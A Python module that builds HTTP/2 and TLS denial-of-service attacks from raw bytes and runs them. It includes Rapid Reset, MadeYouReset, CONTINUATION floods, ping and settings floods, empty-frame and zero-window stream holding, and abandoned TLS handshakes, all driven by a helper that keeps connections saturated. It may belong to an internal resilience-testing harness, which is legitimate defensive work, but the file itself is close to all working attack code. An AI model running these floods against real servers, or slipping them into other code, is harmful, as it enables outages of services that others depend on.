"""Attacks over HTTP/2 and TLS, in bytes: no library would send such frames."""

import collections
import ssl
import struct

from .place import LIVE

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
# Frames that are made at once.
BATCH = 50


def frame(kind, flags, stream, payload=b""):
    """RFC 9113, section 4.1."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def number(value):
    return struct.pack(">I", value)


def fields(path, method=0x82):
    """The head of a request (RFC 7541): methods and schemes of the static table, the rest as it is."""
    return bytes([method, 0x86, 0x04, len(path)]) + path.encode() + b"\x01\x05abuse"


def settings(**values):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", int(name[1:]), value) for name, value in values.items()))


GET, POST = 0x82, 0x83
START = PREFACE + settings()


def flood(a, make, first=START, reads=True):
    """Keeps connections full of what is made for the next streams of each."""
    nexts = a.streams = getattr(a, "streams", None) or collections.defaultdict(lambda: 1)

    def batch(connection):
        # Of a connection that has ended another may have the place.
        made = []
        for _ in range(BATCH):
            made.append(make(nexts[connection]))
            nexts[connection] += 2
        return made

    a.pipeline(batch, reads, first, most=20)


def rapid_reset(a):
    """HTTP/2: requests that are reset at once"""
    flood(a, lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, fields("/v2/stream/abuse.wide?last=1000"))
          + frame(RESET, 0, stream, number(8)))


def made_you_reset(a):
    """HTTP/2: requests that have the server reset them"""
    flood(a, lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, fields("/v2/stream"))
          + frame(WINDOW_UPDATE, 0, stream, number(0)))


def continuations(a):
    """HTTP/2: heads that never end"""
    flood(a, lambda stream: frame(CONTINUATION, 0, 1, b"\x00\x01x\x7f" + b"\x80\x10" + b"y" * 2000),
          first=START + frame(HEADERS, END_STREAM, 1, fields("/v2/stream")))


def pings(a):
    """HTTP/2: pings, whose answers are not read"""
    flood(a, lambda stream: frame(PING, 0, 0, b"abuse!!!"), reads=False)


def changed_settings(a):
    """HTTP/2: settings, over and over"""
    flood(a, lambda stream: settings(_4=65_535 + stream % 2, _1=4096 * (stream % 3)))


def empty_frames(a):
    """HTTP/2: empty pieces of a body"""
    flood(a, lambda stream: frame(DATA, 0, 1),
          first=START + frame(HEADERS, END_HEADERS, 1, fields("/v2/filter", POST)))


def shut_windows(a):
    """HTTP/2: a hundred streams a connection, into which a byte fits now and then"""
    opened = b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, stream, fields(f"/v2/stream/{LIVE}?since=PT1H")) for stream in range(1, 200, 2))
    flood(a, lambda stream: frame(WINDOW_UPDATE, 0, 1 + stream % 200, number(1)), first=PREFACE + settings(_4=0) + opened)


def handshakes(a):
    """TLS handshakes that are left when the server has signed"""
    port = a.place.tls or a.place.port
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = context.wrap_bio(incoming, outgoing)
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    a.send_and_read(outgoing.read(), port)


ATTACKS = (rapid_reset, made_you_reset, continuations, pings, changed_settings, empty_frames, shut_windows, handshakes)
